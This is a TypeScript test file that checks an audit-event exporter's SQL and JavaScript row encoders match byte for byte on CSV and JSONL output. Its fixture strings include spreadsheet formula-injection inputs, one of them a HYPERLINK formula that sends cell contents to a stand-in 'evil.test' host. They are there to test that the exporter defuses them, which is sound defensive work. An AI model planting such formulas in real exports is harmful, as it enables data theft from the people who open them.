/**
 * The SQL row encoder (exportRowSql) against the JavaScript one (encodeExportRow), byte for byte,
 * on PGlite and PostgreSQL: events full of values that need JSON escaping, CSV quoting or formula
 * defusing, exported through the streaming exporter, must come out exactly as the JavaScript
 * encoder writes them — including events without `data_canonical`, which the exporter encodes in
 * JavaScript, mixed into the same pages as the others.
 */
import { randomUUID } from 'node:crypto';
import { afterEach, describe, expect, test } from 'vitest';
import { canonicalJson } from '@/lib/audit/canonical';
import { createAuditExportStream } from '@/lib/audit/export-audit-events';
import { encodeExportHeader, encodeExportRow } from '@/lib/audit/export-format';
import type { AuditExportFormat } from '@/lib/contract/audit';
import { DB_KINDS, useTestDatabases } from '@/lib/testing/audit';
import type { TestDb } from '@/lib/testing/db';

const CONTROL = Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('');
const NASTY = [
  'plain',
  '',
  'quote " and "" doubled',
  'back\\slash \\" \\\\ \\u0041',
  CONTROL,
  '\u007f \u0080 \u00a0 \u2028 \u2029 \ufeff',
  'é 漢字 😀 𝄞',
  '=1+1',
  '+1',
  '-1',
  '@x',
  '\t=',
  '\r\n=c',
  "'=x",
  "''+1",
  "'''-1",
  "'",
  "''",
  "'x",
  ' =1',
  '=HYPERLINK("https://evil.test/?"&A1,"open")',
  'a,b\r\n"c";d',
  '{"json":"looking"}',
  'null',
];

function nastyEvent(seq: number, withCanonical: boolean) {
  const value = NASTY[seq % NASTY.length] ?? '';
  const other = NASTY[(seq * 7 + 3) % NASTY.length] ?? '';
  const data = {
    [value || 'empty']: other,
    nested: { list: [value, 1.5, -0.25, 1e21, 12345678901234, true, false, null], [other || 'k']: { deep: value } },
    zeta: seq,
    Alpha: [],
    '': {},
  };
  return {
    seq: BigInt(seq),
    id: randomUUID(),
    at: new Date(Date.UTC(2026, 0, 1) + seq * 1_234_567 + (seq % 1000)),
    type: value,
    actorId: other,
    targetId: seq % 5 === 0 ? null : `${other}${value}`,
    requestId: seq % 3 === 0 ? null : randomUUID(),
    data,
    dataCanonical: withCanonical ? canonicalJson(data) : null,
    // Stored as they are; a broken chain must export exactly as a sound one is encoded.
    prevHash: value,
    hash: `${other}#${seq}`,
  };
}

async function readText(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe.each(DB_KINDS)('the SQL row encoder on %s', (kind) => {
  const databases = useTestDatabases();
  let db: TestDb;
  afterEach(async () => {
    await db.close();
  });

  test('streams every row byte-identical to encodeExportRow, with and without data_canonical, whatever the page size', async () => {
    db = await databases.open(kind);
    const count = NASTY.length * 3;
    // Events 1..9 predate data_canonical, as after migration 0012; 30 and 40 lack it too, mid-trail.
    const events = Array.from({ length: count }, (_, i) => nastyEvent(i + 1, i + 1 > 9 && i + 1 !== 30 && i + 1 !== 40));
    await db.prisma.auditEvent.createMany({ data: events });
    const stored = await db.prisma.auditEvent.findMany({ orderBy: { seq: 'asc' } });
    expect(stored.filter((e) => e.dataCanonical === null)).toHaveLength(11);

    for (const format of ['csv', 'jsonl'] as AuditExportFormat[]) {
      const expected = encodeExportHeader(format) + stored.map((event) => encodeExportRow(format, event)).join('');
      for (const pageSize of [1, 7, 1_000]) {
        const text = await readText(createAuditExportStream(db.prisma, { format, firstSeq: 1n, lastSeq: BigInt(count) }, { pageSize }));
        expect(text, `${format}, pages of ${pageSize}`).toBe(expected);
      }
      // A range inside the trail: from the middle of the legacy rows to the middle of the rest.
      const inner = encodeExportHeader(format) + stored.slice(4, 50).map((event) => encodeExportRow(format, event)).join('');
      expect(await readText(createAuditExportStream(db.prisma, { format, firstSeq: 5n, lastSeq: 50n }, { pageSize: 8 }))).toBe(inner);
    }
  });
});
